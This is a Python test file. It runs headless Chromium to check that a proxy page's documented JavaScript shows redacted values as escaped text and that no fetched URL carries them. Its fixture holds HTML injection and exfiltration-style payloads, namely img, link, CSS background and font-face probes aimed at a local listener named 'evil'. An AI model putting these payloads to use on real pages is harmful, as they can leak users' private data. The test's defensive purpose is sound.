"""The browser code of the proxy's page: values appear as text, and no address that is fetched holds one."""

import http.server
import json
import re
import shutil
import subprocess
import threading
from pathlib import Path

import pytest

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
PAGE = (Path(__file__).parents[2] / "docs" / "integrations" / "proxy.md").read_text(encoding="utf-8")
VALUE = "maria@clinic.se<img src={}/markup>"
DRAWN = """<!doctype html><body><p>I wrote to <em>ID-00017</em>. ID-00017 <img src="{0}/?d=ID-00017"></p>
<a href="{0}/?d=ID-00017">ID-00017</a><style>body {{ background: url({0}/style?d=ID-00017) }}</style>
<style>@font-face {{ font-family: evil; src: url({0}/letter); unicode-range: U+40 }} p {{ font-family: evil }}</style>
<svg><style>p {{ background: url({0}/svg?d=ID-00017) }}</style></svg><pre class="mermaid">ID-00017</pre>
<script>{1}</script><script>addEventListener("load", () => showValues(document.body, {2}, {3}))</script>"""


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")
def test_values_are_shown_as_text_and_fetched_by_nobody(tmp_path):
    asked = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{server.server_port}"
    (code,) = re.findall(r"^```js\n(.*?)^```", PAGE, flags=re.MULTILINE | re.DOTALL)
    reply, value = "to ID-00017.", VALUE.format(evil)
    found = json.dumps([{"start": 3, "end": 11, "value": value}])
    (tmp_path / "page.html").write_text(DRAWN.format(evil, code, json.dumps(reply), found), encoding="utf-8")
    options = [
        "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=5000", f"--user-data-dir={tmp_path}",
    ]  # fmt: skip
    command = [CHROMIUM, *options, "--dump-dom", (tmp_path / "page.html").as_uri()]
    shown = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
    server.shutdown()
    server.server_close()
    shown = shown.partition("<script>")[0]
    assert shown.count(value.replace("<", "&lt;").replace(">", "&gt;")) == 2
    assert '<pre class="mermaid">ID-00017</pre>' in shown
    assert "/?d=ID-00017" in asked, "the listener hears what the page fetches"
    assert not [path for path in asked if "maria" in path or "markup" in path or "letter" in path]
